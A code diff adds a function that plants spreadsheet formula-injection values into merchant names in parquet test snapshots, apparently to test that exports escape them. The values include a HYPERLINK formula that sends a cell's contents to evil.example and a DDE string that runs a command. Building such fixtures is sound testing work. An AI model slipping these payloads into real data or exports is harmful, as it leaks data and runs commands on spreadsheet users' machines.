@@ -250,5 +250,22 @@ def make_harder(root: str | Path) -> dict[str, int]:
     pq.write_table(pa.Table.from_pylist([], schema=RawZone(root, "impressions").schema), empty)
     return counts | {"missing saves partition": missing.name}
 
+
+def plant_spreadsheet_names(root: Path) -> dict[str, str]:
+    """Merchant names a spreadsheet would run, in every raw snapshot (issue 17): {merchant id: name}."""
+    import pyarrow.compute as pc
+
+    names = {}
+    for f in sorted((root / "raw" / "merchants").glob("dt=*/*.parquet")):
+        table = pq.read_table(f)
+        ids = table["merchant_id"].to_pylist()
+        names = names or {ids[0]: '=HYPERLINK("http://evil.example/?x="&A1,"click")', ids[1]: "=cmd|' /C calc'!A0",
+                          ids[2]: "@SUM(1+1)", ids[3]: "+1-1"}
+        new = pc.if_else(pc.is_in(table["merchant_id"], pa.array(list(names))),
+                         pa.array([names.get(i, "") for i in ids], pa.string()), table["merchant_name"])
+        pq.write_table(table.set_column(table.schema.get_field_index("merchant_name"), "merchant_name", new), f)
+    return names
+
+
 if __name__ == "__main__":
     print(make_harder(sys.argv[1]))
